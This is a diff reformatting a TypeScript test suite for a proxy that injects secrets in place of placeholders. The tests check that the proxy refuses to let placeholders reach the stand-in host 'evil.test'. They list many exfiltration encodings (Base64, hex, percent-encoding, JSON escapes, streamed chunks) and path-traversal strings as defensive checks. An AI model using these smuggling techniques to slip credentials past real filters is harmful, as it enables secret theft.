@@ -18,7 +18,12 @@ before(async () => {
     let body = "";
     request.on("data", (chunk) => (body += chunk));
     request.on("end", () => {
-      arrived.push({ host: request.headers.host!, url: request.url!, headers: JSON.stringify(request.rawHeaders), body });
+      arrived.push({
+        host: request.headers.host!,
+        url: request.url!,
+        headers: JSON.stringify(request.rawHeaders),
+        body,
+      });
       response.end("ok");
     });
     request.on("error", () => {});
@@ -29,7 +34,12 @@ before(async () => {
   harness = await startHarness({
     policy: { allow: ["api.test", "evil.test"] },
     secrets: [secret, narrowed, bodily],
-    resolve: { "api.test": to, "evil.test": to, "api.test:80": `127.0.0.1:${plain.port}`, "evil.test:80": `127.0.0.1:${plain.port}` },
+    resolve: {
+      "api.test": to,
+      "evil.test": to,
+      "api.test:80": `127.0.0.1:${plain.port}`,
+      "evil.test:80": `127.0.0.1:${plain.port}`,
+    },
   });
 });
 after(async () => {
@@ -54,7 +64,8 @@ async function refused(rule: string, asking: () => Promise<Reply>): Promise<void
 
 const base64 = (text: string): string => Buffer.from(text).toString("base64");
 const percentAll = (text: string): string => Array.from(Buffer.from(text), (byte) => `%${byte.toString(16)}`).join("");
-const unicodeAll = (text: string): string => Array.from(text, (char) => `\\u00${char.charCodeAt(0).toString(16)}`).join("");
+const unicodeAll = (text: string): string =>
+  Array.from(text, (char) => `\\u00${char.charCodeAt(0).toString(16)}`).join("");
 
 const smuggled: Record<string, Ask> = {
   "a header": { headers: { authorization: `Bearer ${placeholder}` } },
@@ -76,8 +87,16 @@ const smuggled: Record<string, Ask> = {
   "the query, percent-encoded twice": { path: `/?k=${encodeURIComponent(percentAll(placeholder))}` },
   "the query, Base64": { path: `/?k=${encodeURIComponent(base64(placeholder))}` },
   "a body": { method: "POST", body: `k=${placeholder}` },
-  "a JSON body": { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ k: placeholder }) },
-  "a JSON body with escapes": { method: "POST", headers: { "content-type": "application/json" }, body: `{"k":"${unicodeAll(placeholder)}"}` },
+  "a JSON body": {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ k: placeholder }),
+  },
+  "a JSON body with escapes": {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: `{"k":"${unicodeAll(placeholder)}"}`,
+  },
   "a body in Base64": { method: "POST", body: base64(`xx${placeholder}`) },
   "a body in hex": { method: "PUT", body: Buffer.from(placeholder).toString("hex") },
   "a body, percent-encoded": { method: "POST", body: percentAll(placeholder) },
@@ -94,7 +113,8 @@ test("a placeholder in a streamed body is stopped before it is whole, wherever t
   for (const size of [7, 4096, 30_011]) {
     arrived = [];
     const chunks = async function* (): AsyncGenerator<Buffer> {
-      for (let at = 0; at < whole.length; at += size === 7 ? (at < 69_990 ? 69_990 : 7) : size) yield whole.subarray(at, at + (size === 7 ? (at < 69_990 ? 69_990 : 7) : size));
+      for (let at = 0; at < whole.length; at += size === 7 ? (at < 69_990 ? 69_990 : 7) : size)
+        yield whole.subarray(at, at + (size === 7 ? (at < 69_990 ? 69_990 : 7) : size));
     };
     const reply = await ask(harness.guest, "evil.test", { method: "POST", body: chunks() });
     assert.equal(reply.status, 403, `chunks of ${size}`);
@@ -104,12 +124,18 @@ test("a placeholder in a streamed body is stopped before it is whole, wherever t
 
 test("the same goes for a body of announced length beyond what is read whole", async () => {
   const body = `${"x".repeat(200_000)}${placeholder}`;
-  const reply = await ask(harness.guest, "evil.test", { method: "POST", headers: { "content-length": String(body.length) }, body });
+  const reply = await ask(harness.guest, "evil.test", {
+    method: "POST",
+    headers: { "content-length": String(body.length) },
+    body,
+  });
   assert.equal(reply.status, 403);
 });
 
 test("a secret never goes over plain HTTP, not even to its host", async () => {
-  await refused("secret-needs-https", () => askPlain(harness.guest, "api.test", { headers: { authorization: `Bearer ${placeholder}` } }));
+  await refused("secret-needs-https", () =>
+    askPlain(harness.guest, "api.test", { headers: { authorization: `Bearer ${placeholder}` } }),
+  );
   await refused("secret-not-approved", () => askPlain(harness.guest, "evil.test", { path: `/?k=${placeholder}` }));
   await refused("secret-needs-https", () => askPlain(harness.guest, "api.test", { method: "POST", body: placeholder }));
 });
@@ -120,14 +146,29 @@ test("a narrowed secret goes with its methods and paths only", async () => {
   assert.equal((await ask(harness.guest, "api.test", { method: "POST", path: "/v1/x", headers })).status, 200);
   assert.ok(arrived[0]!.headers.includes(narrowed.value));
   await refused("secret-narrowed", () => ask(harness.guest, "api.test", { method: "GET", path: "/v1/x", headers }));
-  for (const path of ["/v2/x", "/V1/x", "/v1", "/v1/../v2", "/v1/%2e%2e/v2", "/v1/..%2fv2", "/v1//x", "/v1/.", "/v1/a\\b", "/x?/v1/", "/v1/..;/v2"]) {
+  for (const path of [
+    "/v2/x",
+    "/V1/x",
+    "/v1",
+    "/v1/../v2",
+    "/v1/%2e%2e/v2",
+    "/v1/..%2fv2",
+    "/v1//x",
+    "/v1/.",
+    "/v1/a\\b",
+    "/x?/v1/",
+    "/v1/..;/v2",
+  ]) {
     await refused("secret-narrowed", () => ask(harness.guest, "api.test", { method: "POST", path, headers }));
   }
 });
 
 test("headers, Basic credentials and the query of the approved host get the value, encoded as the place asks", async () => {
   arrived = [];
-  await ask(harness.guest, "api.test", { path: `/?a=1&k=${placeholder}`, headers: { authorization: `Basic ${base64(`user:${placeholder}`)}`, "x-key": placeholder } });
+  await ask(harness.guest, "api.test", {
+    path: `/?a=1&k=${placeholder}`,
+    headers: { authorization: `Basic ${base64(`user:${placeholder}`)}`, "x-key": placeholder },
+  });
   const { url, headers } = arrived[0]!;
   assert.equal(url, `/?a=1&k=${encodeURIComponent(value)}`);
   assert.ok(headers.includes(base64(`user:${value}`)) && headers.includes(`"${value}"`));
@@ -144,10 +185,18 @@ test("bodies are left alone unless the secret asks for them", async () => {
 
 test("a secret for bodies is put in, fits the document, and the length is right", async () => {
   arrived = [];
-  await ask(harness.guest, "api.test", { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ k: bodily.placeholder }) });
+  await ask(harness.guest, "api.test", {
+    method: "POST",
+    headers: { "content-type": "application/json" },
+    body: JSON.stringify({ k: bodily.placeholder }),
+  });
   assert.deepEqual(JSON.parse(arrived[0]!.body), { k: bodily.value });
   assert.ok(/"content-length","\d+"/i.test(arrived[0]!.headers));
-  await ask(harness.guest, "api.test", { method: "POST", headers: { "content-type": "application/x-www-form-urlencoded" }, body: `k=${bodily.placeholder}&b=1` });
+  await ask(harness.guest, "api.test", {
+    method: "POST",
+    headers: { "content-type": "application/x-www-form-urlencoded" },
+    body: `k=${bodily.placeholder}&b=1`,
+  });
   assert.equal(new URLSearchParams(arrived[1]!.body).get("k"), bodily.value);
   const long = `${"x".repeat(2 ** 20)}${bodily.placeholder}${"y".repeat(2 ** 20)}`;
   await ask(harness.guest, "api.test", { method: "POST", body: long });
@@ -157,7 +206,14 @@ test("a secret for bodies is put in, fits the document, and the length is right"
 
 test("requests without placeholders pass to every allowed host", async () => {
   arrived = [];
-  assert.equal((await ask(harness.guest, "evil.test", { method: "POST", path: "/x?y=z", headers: { "x-a": "b" }, body: "hello" })).status, 200);
-  assert.deepEqual({ host: arrived[0]!.host, url: arrived[0]!.url, body: arrived[0]!.body }, { host: "evil.test", url: "/x?y=z", body: "hello" });
+  assert.equal(
+    (await ask(harness.guest, "evil.test", { method: "POST", path: "/x?y=z", headers: { "x-a": "b" }, body: "hello" }))
+      .status,
+    200,
+  );
+  assert.deepEqual(
+    { host: arrived[0]!.host, url: arrived[0]!.url, body: arrived[0]!.body },
+    { host: "evil.test", url: "/x?y=z", body: "hello" },
+  );
   assert.equal((await askPlain(harness.guest, "api.test", { path: "/p" })).status, 200);
 });
